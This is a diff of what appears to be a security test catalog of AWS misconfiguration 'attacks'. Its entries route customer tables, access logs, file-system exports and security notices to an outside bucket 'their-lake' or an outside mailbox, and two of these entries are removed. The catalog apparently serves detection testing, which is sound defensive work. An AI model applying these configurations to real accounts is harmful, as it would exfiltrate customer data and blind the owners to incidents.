@@ -37,15 +37,10 @@ ATTACKS = (
     Attack("security notices of the account go to a private mailbox", RES, (aws("account/AlternativeContact", {
         "alternateContactType": "SECURITY", "name": "Ops", "title": "Ops", "emailAddress": "ops.bank@mail-box.io",
         "phoneNumber": "+12025550123"}),), "major", "the stranger learns of every incident first"),
-    Attack("logs of access are written to an unlisted bucket", RES, (aws("s3/BucketLogging", {
-        "bucket": "treasury-datasets", "targetBucket": "their-lake", "targetPrefix": "x/"}),), "major", ABROAD),
     Attack("a partition of a table lies in an unlisted bucket", RES, (aws("glue/Partition", {
         "databaseName": "core", "tableName": "customers", "partitionValues": ["2026-11-28"], "storageDescriptor": {
             **ROW, "location": "s3://their-lake/customers/dt=2026-11-28/"}}),),
         "critical", "the day's rows are written where the partition is"),
-    Attack("a file system exports every change to an unlisted bucket", RES, (aws("fsx/DataRepositoryAssociation", {
-        "fileSystemId": "fs-0123456789abcdef0", "fileSystemPath": "/", "dataRepositoryPath": "s3://their-lake/fs",
-        "s3": {"autoExportPolicy": {"events": ["NEW", "CHANGED"]}}, "tags": TAGS}),), "critical", ABROAD),
     Attack("an inference profile copies one of the whole world", RES, (aws("bedrock/InferenceProfile", {
         "name": "chat", "tags": TAGS, "modelSource": {
             "copyFrom": f"arn:aws:bedrock:{R}:{ME}:inference-profile/global.anthropic.claude-sonnet-4-5-v1:0"}}),),
